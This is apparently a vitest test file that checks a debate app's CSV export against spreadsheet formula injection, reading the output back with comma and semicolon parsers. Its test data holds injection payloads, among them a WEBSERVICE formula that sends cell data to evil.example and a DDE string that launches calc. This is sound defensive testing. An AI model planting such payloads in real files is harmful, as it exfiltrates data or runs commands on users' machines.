// The CSV export read back by a real CSV parser, as a `,` reader (RFC 4180) and as a `;` reader
// (French-locale spreadsheets): every text comes back whole, and no cell of either reading
// starts with a formula character.
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { exportView } from '../../src/views/export.ts';
import { person, type TestBed, testEngine } from '../helpers/engine.ts';

let bed: TestBed;
beforeEach(async () => {
  bed = await testEngine();
});
afterEach(async () => {
  await bed.cleanup();
});

const HOSTILE = [
  'x;=WEBSERVICE("http://evil.example/?"&A1)',
  'prix, +33 et -12',
  'a;@SUM(1);b',
  'guillemets "x";=1+1',
  'fin; "=HYPERLINK(""x"")"',
  "espace; =cmd|' /C calc'!A0",
  'ligne\n=1+1',
  'retour\r\n-2+3',
  'tab\t=1',
  '=tout de suite',
  'rien de spécial',
];

/** A formula start once a reader dropped the spaces and quotes it may drop. */
const formula = (cell: string): boolean => /^[\s"']*[=+\-@]/.test(cell) && !/^[\s"]*'/.test(cell);

describe('CSV export', () => {
  it('reads back whole with `,` and defuses every cell a `;` reader would make', async () => {
    await bed.engine.run(person('o'), 'lancer Tableur ?');
    for (const [i] of HOSTILE.entries()) await bed.engine.run(person(`p${i}`), `pour Argument ${i}`);
    const debate = (
      await bed.store.openDebates({ platform: 'slack', workspaceId: 'T1', channelId: 'C1' })
    )[0]!;
    const data = await bed.store.exportData(debate.debate.id);
    // Texts that the grammar would fold (line breaks) are put back, as a store from before could hold them.
    const hostile = {
      ...data,
      arguments: data.arguments.map((a, i) => ({
        ...a,
        text: HOSTILE[i]!,
        authorName: HOSTILE[(i + 3) % HOSTILE.length]!,
      })),
    };
    const { content } = exportView(hostile, 'csv', 'fr', 'Europe/Paris');

    const comma = parse(content, { delimiter: ',' }) as string[][];
    expect(comma[0]).toHaveLength(12);
    const rows = comma.slice(1).filter((row) => row[0] === 'argument');
    expect(rows).toHaveLength(HOSTILE.length);
    const restored = (cell: string) => cell.replace(/(^|[,;\r\n])([ "]*)'([=+\-@\t\r])/g, '$1$2$3');
    expect(rows.map((row) => restored(row[4]!))).toEqual(HOSTILE);
    expect(rows.map((row) => restored(row[5]!))).toEqual(
      HOSTILE.map((_, i) => HOSTILE[(i + 3) % HOSTILE.length]),
    );
    for (const cell of comma.flat()) expect(formula(cell), JSON.stringify(cell)).toBe(false);

    // A `;` reader, as lenient as spreadsheets are with quotes inside fields.
    const semicolon = parse(content, {
      delimiter: ';',
      relax_quotes: true,
      relax_column_count: true,
    }) as string[][];
    expect(semicolon.length).toBeGreaterThan(1);
    for (const cell of semicolon.flat()) expect(formula(cell), JSON.stringify(cell)).toBe(false);
  });
});
